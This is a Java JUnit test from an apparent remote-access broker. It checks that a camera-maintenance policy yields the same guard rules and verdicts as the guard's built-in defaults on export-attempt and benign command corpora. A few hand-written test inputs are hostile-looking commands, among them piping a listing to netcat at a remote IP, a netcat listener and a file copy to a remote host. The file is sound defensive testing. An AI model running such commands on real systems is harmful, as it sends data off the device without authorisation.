package org.sallyport.broker.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;
import org.sallyport.fixtures.corpus.SessionCorpus;
import org.sallyport.policy.guard.GuardRules;
import org.sallyport.policy.guard.GuardVerdict;
import org.sallyport.policy.guard.StreamGuard;
import org.sallyport.policy.load.PolicyLoader;
import org.sallyport.policy.model.PolicyContext;
import org.sallyport.policy.model.RequestInfo;
import org.sallyport.policy.model.Requester;
import org.sallyport.policy.model.TargetInfo;

/**
 * The bundled camera-maintenance YAML policy, compiled for a session, gives the live guard the same rules as
 * the guard's built-in camera defaults: same rule ids and actions, and the same verdict on every command
 * line of the export-attempt and benign corpora. So the broker can build guards from the policy without
 * weakening anything the end-to-end corpus proves.
 */
class DefaultPolicyMatchesGuardDefaultsTest {
    private static final Instant T = Instant.parse("2026-12-01T16:00:00Z");
    private static final GuardRules FROM_POLICY = PolicyLoader.loadDefault().guardRules(PolicyContext.forRequest(
            new Requester("tech", "acme-optics", Set.of("vendor-technician", "/vendors/acme-optics")),
            new TargetInfo("cam-anz-01", "anzalduas", "ip-camera", Set.of("face-capture")),
            new RequestInfo(T, Duration.ofHours(1), "focus", "INC-1")));
    private static final GuardRules DEFAULTS = GuardRules.defaults();

    @Test
    void sameRuleIdsAndActions() {
        assertThat(FROM_POLICY.channels()).extracting(r -> r.id() + " " + r.kind() + " " + r.allow())
                .containsExactlyInAnyOrderElementsOf(DEFAULTS.channels().stream().map(r -> r.id() + " " + r.kind() + " " + r.allow()).toList());
        assertThat(FROM_POLICY.input()).extracting(r -> r.id() + " " + r.action() + " " + r.toolNames())
                .containsExactlyElementsOf(DEFAULTS.input().stream().map(r -> r.id() + " " + r.action() + " " + r.toolNames()).toList());
        assertThat(FROM_POLICY.output().detectors()).extracting(r -> r.id() + " " + r.detector() + " " + r.action() + " " + r.directions())
                .containsExactlyElementsOf(DEFAULTS.output().detectors().stream()
                        .map(r -> r.id() + " " + r.detector() + " " + r.action() + " " + r.directions()).toList());
        assertThat(FROM_POLICY.output().volumeCaps()).isEqualTo(DEFAULTS.output().volumeCaps());
    }

    static Stream<String> corpusLines() {
        List<String> lines = new ArrayList<>();
        for (var c : SessionCorpus.exportAttempts()) lines.addAll(c.script("/data/device"));
        for (var c : SessionCorpus.benignSessions()) lines.addAll(c.script("/data/device"));
        lines.addAll(List.of("sc\t/var/x.jpg me@host:", "ls | nc 1.2.3.4 9", "dd if=/dev/zero of=/tmp/x", "gzip -c log", "timeout 5 nc -l 9"));
        return lines.stream().distinct();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpusLines")
    void sameVerdictOnEveryCorpusLine(String line) {
        assertThat(verdict(FROM_POLICY, line)).isEqualTo(verdict(DEFAULTS, line));
        assertThat(exec(FROM_POLICY, line)).isEqualTo(exec(DEFAULTS, line));
    }

    private static String verdict(GuardRules rules, String line) {
        StreamGuard g = new StreamGuard(rules, true, InstantSource.fixed(T));
        byte[] b = SessionCorpus.Case.keystrokes(line).getBytes(StandardCharsets.ISO_8859_1);
        GuardVerdict v = g.input(b, 0, b.length);
        return v.action() + " " + v.ruleId();
    }

    private static String exec(GuardRules rules, String command) {
        StreamGuard g = new StreamGuard(rules, false, InstantSource.fixed(T));
        GuardVerdict v = g.channelRequest(StreamGuard.classify("exec", command), command);
        return v.action() + " " + v.ruleId();
    }
}
